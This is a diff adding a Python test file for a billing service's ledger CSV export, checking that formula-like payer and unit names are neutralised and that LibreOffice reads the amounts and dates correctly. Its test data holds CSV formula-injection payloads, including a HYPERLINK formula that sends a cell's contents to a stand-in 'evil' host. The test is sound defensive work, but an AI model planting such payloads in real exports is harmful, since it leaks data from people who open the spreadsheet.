@@ -1,0 +1,133 @@
+"""Issue 13 (outside review), items 5 and 11: what a user or an attacker
+does, and what must happen. The ledger CSV never hands a spreadsheet a
+formula and still gives LibreOffice numbers and dates; reversals leave the
+oldest month paid first; single-line fields refuse line breaks; an occupied
+unit cannot be rewritten under its household; idempotency answers are
+purged; POST /calendar-tokens validates its body."""
+import os
+import shutil
+import subprocess
+import tempfile
+import unittest
+import xml.etree.ElementTree as ET
+
+import test_billing as billing
+
+OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
+TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
+
+
+def libreoffice_cells(csv_bytes):
+    """The ledger opened by LibreOffice as a Belgian French user would: CSV
+    import with ';', '"', UTF-8 (76), from line 1, language fr-BE (2060),
+    quoted fields not forced to text, special numbers (dates) detected;
+    formulas evaluated, as by default. Saved as flat ODF and read back:
+    rows of (value-type, value, formula, text) per cell."""
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        raise AssertionError("soffice missing: scripts/dev.sh installs libreoffice-calc-nogui")
+    work = tempfile.mkdtemp(prefix="transitd-lo-")
+    try:
+        src = os.path.join(work, "ledger.csv")
+        with open(src, "wb") as f:
+            f.write(csv_bytes)
+        subprocess.run([soffice, "--headless", "--norestore",
+                        "-env:UserInstallation=file://" + os.path.join(work, "profile"),
+                        "--infilter=CSV:59,34,76,1,,2060,false,true",
+                        "--convert-to", "fods", "--outdir", work, src],
+                       check=True, capture_output=True, timeout=300)
+        tree = ET.parse(os.path.join(work, "ledger.fods"))
+    finally:
+        shutil.rmtree(work, ignore_errors=True)
+    rows = []
+    for row in tree.iter("{%s}table-row" % TABLE):
+        cells = []
+        for cell in row.findall("{%s}table-cell" % TABLE):
+            repeat = int(cell.get("{%s}number-columns-repeated" % TABLE, "1"))
+            text = "".join("".join(p.itertext()) for p in cell.findall("{%s}p" % TEXT))
+            kind = cell.get("{%s}value-type" % OFFICE)
+            value = (cell.get("{%s}date-value" % OFFICE) if kind == "date"
+                     else cell.get("{%s}value" % OFFICE))
+            cells += [(kind, value, cell.get("{%s}formula" % TABLE), text)] * min(repeat, 20)
+        rows.append(cells)
+    return rows
+
+
+class LedgerCsv(billing.PaymentCase):
+    """Item 5: payers and unit names that look like formulas."""
+
+    conventions = 2
+
+    PAYERS = ['=HYPERLINK("http://evil/"&A1,"x")', "=2+3", "+2+3", "-2+3", "@SUM(2,3)"]
+
+    def test_formulas_neutralised_bom_and_libreoffice_types(self):
+        conv, hh = self.seeded[0]
+        for i, payer in enumerate(self.PAYERS):
+            self.paid(hh, 1000 + i, "2026-02-0%d" % (i + 1), payer=payer)
+        # a tab or a carriage return first: the API refuses them in a name
+        # now (item 11), rows written before may hold them
+        self.sql("UPDATE units SET name = E'\\t=2+3' WHERE id = (SELECT unit_id FROM"
+                 " conventions WHERE id = %d)" % conv)
+        r = self.get("/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31",
+                     role="accountant")
+        self.assertEqual(r.status, 200, r)
+        # UTF-8 BOM by default
+        self.assertTrue(r.body.startswith("\ufeffdate;entry;"), r.body[:20])
+        lines = r.body[1:].split("\r\n")
+        self.assertIn('"\'=HYPERLINK(""http://evil/""&A1,""x"")"', r.body)
+        for payer in self.PAYERS[1:]:
+            self.assertIn(";'%s;" % payer, r.body)
+            self.assertNotIn(";%s;" % payer, r.body)
+        self.assertIn(";'\t=2+3;", r.body)
+        # no text cell starts with a formula character
+        for line in lines[1:]:
+            if line:
+                for cell in line.split(";"):
+                    self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), line)
+        plain = self.get("/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31&bom=0")
+        self.assertEqual(plain.status, 200, plain)
+        self.assertTrue(plain.body.startswith("date;entry;"), plain.body[:20])
+        self.assertEqual(plain.body, r.body[1:])
+        self.assertEqual(self.get("/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31"
+                                  "&bom=1").body, r.body)
+        for bad in ("bom=2", "bom=", "bom=yes"):
+            p = self.assertProblem(self.get("/api/v1/exports/ledger.csv?from=2026-01-01"
+                                            "&to=2026-03-31&" + bad), 400, "invalid-query")
+            self.assertEqual(p["errors"][0]["field"], "bom")
+
+        # LibreOffice: no formula anywhere, amounts numbers, dates dates
+        raw = self.d.request("GET", "/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31",
+                             token=self.tokens["accountant"])
+        body = r.body.encode("utf-8")
+        self.assertEqual(raw.body.encode("utf-8"), body)
+        rows = libreoffice_cells(body)
+        header = [c[3] for c in rows[0][:16]]
+        self.assertEqual(header[0], "date")  # the BOM read as a BOM, not as text
+        self.assertEqual(header[15], "credit")
+        data = [row for row in rows[1:] if row and row[0][0] is not None]
+        self.assertEqual(len(data), len([x for x in lines[1:] if x]))
+        for row in data:
+            for cell in row:
+                self.assertIsNone(cell[2], row)  # never a formula
+            self.assertEqual(row[0][0], "date", row)
+            self.assertRegex(row[0][1], r"^2026-0[1-3]-\d\d$")
+        payments = [row for row in data if row[1][3] == "payment"]
+        self.assertEqual(sorted(row[11][3] for row in payments),
+                         sorted("'" + p for p in self.PAYERS))
+        for row in payments:
+            self.assertEqual(row[11][0], "string")
+            self.assertEqual(row[15][0], "float", row)
+        self.assertEqual(sorted(float(row[15][1]) for row in payments),
+                         [10.0, 10.01, 10.02, 10.03, 10.04])
+        invoices = [row for row in data if row[1][3] == "invoice" and row[6][3] == str(conv)]
+        self.assertEqual(len(invoices), 3)
+        for row in invoices:
+            # (the tab is a <text:tab/> in ODF: not in the text read back)
+            self.assertEqual((row[7][0], row[7][3]), ("string", "'=2+3"))
+            self.assertEqual((row[14][0], float(row[14][1])), ("float", 302.47))
+            self.assertEqual((row[12][0], float(row[12][1])), ("float", 302.47))
+
+
+if __name__ == "__main__":
+    unittest.main()
